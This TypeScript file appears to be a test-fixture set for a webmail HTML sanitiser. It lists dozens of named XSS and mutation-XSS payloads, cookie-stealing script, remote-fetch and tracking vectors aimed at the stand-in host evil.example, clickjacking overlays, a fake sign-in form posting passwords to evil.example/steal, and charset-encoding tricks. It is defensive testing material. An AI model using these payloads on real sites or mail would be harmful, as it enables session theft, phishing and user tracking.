/**
 * What has broken webmail before, case by case. Every payload tries to run `alert`, to reach a server, to navigate,
 * or to change or imitate what is outside its frame; the name says how.
 */

export type Threat = readonly [name: string, html: string];

/** A server that must never hear of it. */
const EVIL = 'https://evil.example';
const px = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const svg = (inner: string): string =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`)}`;

export const SANITISER_BYPASS: readonly Threat[] = [
  ['a script', `<script>alert(1)</script>`],
  [
    'a script from a server',
    `<script src="${EVIL}/x.js"></script><script src="//evil.example/y.js"></script>`,
  ],
  ['a script that steals', `<script>fetch('/leak?'+document.cookie+localStorage.canary)</script>`],
  [
    'event handlers',
    `<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover=alert(1) onclick=alert(1)>x</div>`,
  ],
  ['event handlers without spaces', `<img/src=x/onerror=alert(1)><svg/onload=alert(1)>`],
  [
    'animation and toggle handlers',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p><details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>`,
  ],
  [
    'focus handlers',
    `<a href=# autofocus tabindex=1 onfocus=alert(1)>x</a><input autofocus onfocus=alert(1)>`,
  ],
  [
    'SVG use with white space in the type',
    `<svg><use href="data:image/s&#9;vg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>`,
  ],
  [
    'SVG use with xlink',
    `<svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" /></svg>`,
  ],
  [
    'SVG animate of href',
    `<svg><a><animate attributeName=href values="javascript:alert(1)" /><text x=20 y=20>x</text></a></svg>`,
  ],
  [
    'SVG set of href in odd case',
    `<svg><a><set attributeName="HrEf " to="javascript:alert(1)"/><text y=20>x</text></a></svg>`,
  ],
  [
    'SVG animate of a prefixed href, payload in from',
    `<svg><a xlink:href=#><animate attributeName="xlink:href" from="javascript:alert(1)" to="&" begin=0s /><text y=20>x</text></a></svg>`,
  ],
  [
    'SVG animate with payload in by',
    `<svg><a><animate attributeName="href" by="javascript:alert(1)"/><text y=20>x</text></a></svg>`,
  ],
  [
    'SVG animate of style',
    `<svg><rect><animate attributeName="style" values="background:url(${EVIL}/a)"/></rect></svg>`,
  ],
  [
    'SVG script and handler',
    `<svg><script>alert(1)</script><script href="data:,alert(1)"/></svg><svg onload=alert(1)>`,
  ],
  [
    'SVG foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'mutation through math and mglyph',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  ],
  [
    'mutation through math, table and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  ],
  ['mutation through svg desc', `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  [
    'mutation through svg title and noscript',
    `<svg><title><noscript><p title="</noscript><img src=x onerror=alert(1)>"></title></svg>`,
  ],
  ['mutation through noscript', `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ['mutation through template', `<template><style></template><img src=x onerror=alert(1)></style>`],
  [
    'mutation through nested forms',
    `<form><div></form><form><table><tr><td><form><img src=x onerror=alert(1)>`,
  ],
  [
    'mutation through table fix-up',
    `<table><tr><td><svg><desc><table><td></desc><img src=x onerror=alert(1)>`,
  ],
  [
    'mutation through annotation-xml',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  ],
  [
    'mutation through xmp, noembed, noframes, plaintext',
    `<xmp><p title="</xmp><img src=x onerror=alert(1)>"><noembed><img title="</noembed><img src=x onerror=alert(1)>"><noframes><p title="</noframes><img src onerror=alert(1)>">`,
  ],
  ['mutation through select', `<select><template><style></select></template><img src=x onerror=alert(1)>`],
  [
    'mutation at the depth limit',
    `${'<div>'.repeat(505)}<svg><style><a title="</style><img src=x onerror=alert(1)>">`,
  ],
  [
    'mutation through comments',
    `<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>`,
  ],
  [
    'CDATA',
    `<![CDATA[><img src=x onerror=alert(1)>]]><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`,
  ],
  [
    'processing instructions',
    `<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?><?xml-stylesheet href="javascript:alert(1)"?>`,
  ],
  ['unclosed tags', `<img src=x onerror=alert(1) <div <script>alert(1)</script `],
  ['nested tags', `<scr<script>ipt>alert(1)</scr</script>ipt><<img src=x onerror=alert(1)>`],
  ['a null in a tag', `<scr\0ipt>alert(1)</script><img src=x o\0nerror=alert(1)>`],
  ['javascript: links', `<a href="javascript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a>`],
  [
    'javascript: in odd case and cut by entities',
    `<a href="JaVaScRiPt:alert(1)">x</a><a href="java&#9;script:alert(1)">x</a><a href="java&NewLine;script&colon;alert(1)">x</a>`,
  ],
  [
    'javascript: cut by control characters',
    `<a href="\x01javascript:alert(1)">x</a><a href="java\nscript:alert(1)">x</a><a href="java\0script:alert(1)">x</a>`,
  ],
  [
    'data: and vbscript: links',
    `<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:msgbox(1)">x</a><a href="blob:null/x">x</a><a href="file:///etc/passwd">x</a>`,
  ],
  [
    'javascript: everywhere else',
    `<area href="javascript:alert(1)"><form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form><img src="javascript:alert(1)"><table background="javascript:alert(1)"><math href="javascript:alert(1)">x</math>`,
  ],
  [
    'base',
    `<base href="javascript:alert(1)//"><a href="x">x</a><base href="${EVIL}/"><img src="a.png"><a href="b">y</a>`,
  ],
  [
    'a meta refresh',
    `<meta http-equiv=refresh content="0;url=${EVIL}/"><meta http-equiv="refresh" content="0;javascript:alert(1)">`,
  ],
  [
    'a meta policy and cookie',
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="session=evil">`,
  ],
  [
    'frames',
    `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><iframe src="/"></iframe><frameset><frame src="${EVIL}"></frameset>`,
  ],
  [
    'plug-ins',
    `<object data="data:text/html,<script>alert(1)</script>"></object><embed src="${EVIL}/x.swf"><applet code=x></applet><object type="text/html" data="/"></object>`,
  ],
  [
    'portal, dialog and popover',
    `<portal src="${EVIL}"></portal><dialog open>Sign in again</dialog><div popover id=p>x</div><button popovertarget=p>y</button><button commandfor=p command=show-popover>z</button>`,
  ],
  ['custom elements', `<p is="x-y" onclick=alert(1)>x</p><x-y onclick=alert(1)>y</x-y><slot name=a>z</slot>`],
  [
    'a shadow root',
    `<div><template shadowrootmode="open"><script>alert(1)</script><img src=x onerror=alert(1)></template></div>`,
  ],
  [
    'clobbering the document',
    `<img name=body><img name=documentElement><form name=querySelector></form><embed name=head><object name=defaultView></object><img id=getElementById><a id=createElement></a>`,
  ],
  [
    'clobbering forms',
    `<form><input name=attributes><input name=parentNode><input name=nodeName><input name=removeChild><input name=childNodes><img src=x onerror=alert(1)></form>`,
  ],
  [
    'clobbering with anchors',
    `<a id=mailBench></a><a id=mailBench name=show href="javascript:alert(1)">x</a><form id=place></form><map name=cookie></map>`,
  ],
  [
    'image maps',
    `<img usemap="#m" src="data:image/gif;base64,${px}" width=100 height=100><map name=m><area shape=rect coords="0,0,100,100" href="javascript:alert(1)"></map>`,
  ],
  ['links that ping and download', `<a href="${EVIL}" ping="${EVIL}/ping" download>x</a>`],
  [
    'media',
    `<video src="${EVIL}/v" poster="${EVIL}/p" autoplay onloadstart=alert(1)></video><audio src=x onerror=alert(1) autoplay></audio><video><source onerror=alert(1) src=x></video>`,
  ],
  [
    'a conditional comment',
    `<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]--><![if !mso]><img src=x onerror=alert(1)><![endif]>`,
  ],
  [
    'XML data islands',
    `<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml><div datasrc=#x datafld=b dataformatas=html></div>`,
  ],
  [
    'a style that closes itself',
    `<style>p{color:red}</style><img src=x onerror=alert(1)></style><style><img src="</style><img src=x onerror=alert(1)>"></style>`,
  ],
  [
    'CSS that runs',
    `<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(${EVIL}/x.xml#x)">x</p>`,
  ],
];

export const LEAKS: readonly Threat[] = [
  [
    'an image',
    `<img src="${EVIL}/a.png"><img src="http://evil.example/b.png"><img src="//evil.example/c.png">`,
  ],
  [
    'an image with white space and entities in its scheme',
    `<img src=" ht&#9;tps://evil.example/a.png"><img src="\nhttps:evil.example/b"><img src="https:\\\\evil.example\\c">`,
  ],
  [
    'srcset and picture',
    `<img srcset="${EVIL}/a 1x, ${EVIL}/b 2x" sizes=100vw><picture><source srcset="${EVIL}/c"><img src=""></picture>`,
  ],
  [
    'background attributes',
    `<body background="${EVIL}/a"><table background="${EVIL}/b"><tr><td background="${EVIL}/c">x</td></tr></table>`,
  ],
  [
    'poster, track, input image',
    `<video poster="${EVIL}/a"><track src="${EVIL}/b"></video><input type=image src="${EVIL}/c"><img lowsrc="${EVIL}/d" dynsrc="${EVIL}/e" longdesc="${EVIL}/f">`,
  ],
  [
    'a track, which browsers fetch even for documents that are only parsed',
    `<video controls><track default kind=subtitles src="${EVIL}/a.vtt"><source src="${EVIL}/b"></video>`,
  ],
  [
    'link elements',
    `<link rel=stylesheet href="${EVIL}/a.css"><link rel=preload as=image href="${EVIL}/b"><link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="${EVIL}/c"><link rel=icon href="${EVIL}/d"><link rel=preconnect href="${EVIL}">`,
  ],
  [
    'manifest, profile, cite, codebase',
    `<html manifest="${EVIL}/m"><head profile="${EVIL}/p"></head><blockquote cite="${EVIL}/c">x</blockquote><object codebase="${EVIL}" classid="x" data="y"></object>`,
  ],
  [
    'CSS url() in every property',
    [
      'background',
      'background-image',
      'list-style',
      'list-style-image',
      'border-image',
      'border-image-source',
      'cursor',
      'content',
      'mask',
      'mask-image',
      '-webkit-mask-image',
      '-webkit-mask-box-image',
      'filter',
      'backdrop-filter',
      'clip-path',
      'shape-outside',
      'offset-path',
      'fill',
      'marker-start',
      'src',
    ]
      .map((property) => `<p style="${property}:url(${EVIL}/${property})">x</p>`)
      .join(''),
  ],
  [
    'CSS url() escaped',
    `<p style="background:\\75rl(${EVIL}/a)">x</p><p style="background:u\\72\\6c(${EVIL}/b)">x</p><p style="background:url(\\68ttps://evil.example/c)">x</p>`,
  ],
  [
    'CSS url() cut by comments',
    `<p style="background:u/**/rl(${EVIL}/a);back/**/ground:url(${EVIL}/b)">x</p><p style="background:/*;*/url(${EVIL}/c)">x</p>`,
  ],
  [
    'CSS url() after broken strings',
    `<p style="font-family:'x\n;background:url(${EVIL}/a)">x</p><p style="content:'\\';background:url(${EVIL}/b)'">x</p>`,
  ],
  ['CSS url() behind entities', `<p style="background&#58;url&#40;${EVIL}/a&#41;">x</p>`],
  [
    'image-set and cross-fade',
    `<p style="background-image:image-set('${EVIL}/a' 1x, '${EVIL}/b' 2x)">x</p><p style="background-image:-webkit-image-set(url(${EVIL}/c) 1x)">x</p><p style="background:-webkit-cross-fade(url(${EVIL}/d),url(${EVIL}/e),50%)">x</p><p style="background:image('${EVIL}/f')">x</p>`,
  ],
  [
    '@import',
    `<style>@import '${EVIL}/a.css';@import url(${EVIL}/b.css);\\@import '${EVIL}/c.css';@\\69mport '${EVIL}/d.css';</style>`,
  ],
  [
    '@font-face',
    `<style>@font-face{font-family:x;src:url(${EVIL}/a.woff2)} p{font-family:x}</style><p>text</p>`,
  ],
  [
    '@namespace, @property, @counter-style, @layer',
    `<style>@namespace x url(${EVIL}/a);@property --x{syntax:'<url>';inherits:false;initial-value:url(${EVIL}/b)}@counter-style y{system:cyclic;symbols:url(${EVIL}/c)}@layer z{p{background:url(${EVIL}/d)}}@supports (color:red){p{background:url(${EVIL}/e)}}@container (width>0){p{background:url(${EVIL}/f)}}@scope (p){:scope{background:url(${EVIL}/g)}}</style><p>x</p>`,
  ],
  [
    'CSS variables',
    `<style>p{--x:url(${EVIL}/a);background:var(--x)}</style><p style="--y:url(${EVIL}/b);background:var(--y)">x</p><p style="background:var(--z,url(${EVIL}/c))">x</p>`,
  ],
  [
    'nested rules',
    `<style>p{color:red;&:hover{background:url(${EVIL}/a)} b{background:url(${EVIL}/b)}}</style><p>x<b>y</b></p>`,
  ],
  [
    'SVG feImage, filter, mask, use',
    `<svg><filter id=f><feImage href="${EVIL}/a"/></filter><rect filter="url(#f)" width=9 height=9 /><image href="${EVIL}/b"/><use href="${EVIL}/c.svg#x"/><mask id=m><image xlink:href="${EVIL}/d"/></mask></svg><p style="filter:url(${EVIL}/e.svg#f);mask:url(${EVIL}/g.svg#m)">x</p>`,
  ],
  [
    'an SVG picture that loads',
    `<img src="${svg(`<image href="${EVIL}/a"/>`)}"><img src="data:image/svg+xml;base64,PHN2Zy8+">`,
  ],
  [
    'attribute selectors',
    `<style>a[href^="https://bank"]{background:url(${EVIL}/a)} [title*=secret]{list-style:url(${EVIL}/b)} p:has(a[href]){background:url(${EVIL}/c)}</style><p><a title=secret href="https://bank.example/">x</a></p>`,
  ],
  [
    'visited links',
    `<style>a:visited{background:url(${EVIL}/a)}a:visited{color:red}</style><a href="${EVIL}">x</a>`,
  ],
  [
    'hover, focus, active',
    `<style>p:hover,p:focus,p:active,p:first-child{background:url(${EVIL}/a)}</style><p tabindex=0>x</p>`,
  ],
  [
    'CSS by media',
    `<style>@media (max-width:9999px){p{background:url(${EVIL}/a)}}@media screen{@media all{p{background:url(${EVIL}/b)}}}@media print{p{background:url(${EVIL}/c)}}</style><p>x</p>`,
  ],
  [
    'sprites and generated content',
    `<style>p::before{content:url(${EVIL}/a)}p::after{content:attr(title) url(${EVIL}/b)}li::marker{content:url(${EVIL}/c)}</style><p title=x>x</p><li>y`,
  ],
  [
    "the page's own addresses",
    `<img src="/session"><img src="/ws/imap"><img src="http://127.0.0.1:1/x"><img src="http://192.168.0.1/reboot"><img src="http://localhost/x"><img src="http://[::1]/x"><img src="http://router/x">`,
  ],
  [
    'link prefetch by speculation',
    `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/a"]}]}</script><a href="${EVIL}/b" rel="prefetch">x</a>`,
  ],
];

export const REDRESS: readonly Threat[] = [
  [
    'a fixed cover',
    `<div style="position:fixed;inset:0;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:red">Sign in</div>`,
  ],
  [
    'an absolute cover',
    `<style>.x{position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;z-index:99}</style><a class=x href="${EVIL}">x</a>`,
  ],
  [
    'a sticky bar',
    `<div style="position:sticky;top:0;z-index:9">x</div><div style="position:relative;top:-300px">y</div>`,
  ],
  [
    'negative margins',
    `<div style="margin:-900px 0 0 -900px;width:3000px">x</div><div style="margin-top:calc(0px - 500px)">y</div><div style="margin-left:max(-5000px,-100vw)">z</div>`,
  ],
  [
    'transforms',
    `<div style="transform:translate(-500px,-500px) scale(9)">x</div><div style="translate:-500px;rotate:45deg;scale:9">y</div>`,
  ],
  [
    'anchors and offsets',
    `<div style="inset:-99px;position-anchor:--a;anchor-name:--a;offset-path:path('M0 0H900')">x</div>`,
  ],
  [
    'a false sign-in form',
    `<form action="${EVIL}/steal" method=post><input name=user autocomplete=username><input type=password name=password autocomplete=current-password><button>Sign in</button></form>`,
  ],
  [
    'a link over the whole page',
    `<a href="${EVIL}" style="display:block;position:fixed;width:100vw;height:100vh">x</a>`,
  ],
  [
    'targets that replace the page',
    `<a href="${EVIL}" target=_top>x</a><a href="${EVIL}" target=_parent>y</a><a href="${EVIL}" target=place>z</a><base target=_top>`,
  ],
  [
    'a scroll trap',
    `<div style="overflow:scroll;height:50px;overscroll-behavior:contain;scroll-snap-type:y mandatory"><p style="height:9000px">x</div>`,
  ],
  [
    'a changed pointer',
    `<style>*{cursor:none;pointer-events:none;user-select:none}html{cursor:url(${EVIL}/a),wait}</style><p>x</p>`,
  ],
];

export const ENCODINGS: readonly Threat[] = [
  ['UTF-7', `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`],
  [
    'ISO-2022-JP escapes',
    `<meta charset=iso-2022-jp><a title="\x1b$B"><img title="\x1b(B" src=x onerror=alert(1)></a>\x1b(J<img src=x onerror=alert(1)>`,
  ],
  ['a byte order mark', `\ufeff<script>alert(1)</script>\ufffe<img src=x onerror=alert(1)>`],
  ['replacement characters', `<img alt="\ufffd" src=x onerror=alert(1)><\ufffdscript>alert(1)</script>`],
  ['lone surrogates', `<img alt="\ud800" src=x onerror=alert(1)>\udfff<script>alert(1)</script>`],
  ['full-width brackets', `＜script＞alert(1)＜/script＞<ſcript>alert(1)</ſcript>`],
  [
    'a charset declared late',
    `<p>x</p><meta http-equiv=content-type content="text/html;charset=x-mac-greek"><script charset=utf-7>+AGEAbABlAHIAdA-(1)</script>`,
  ],
];
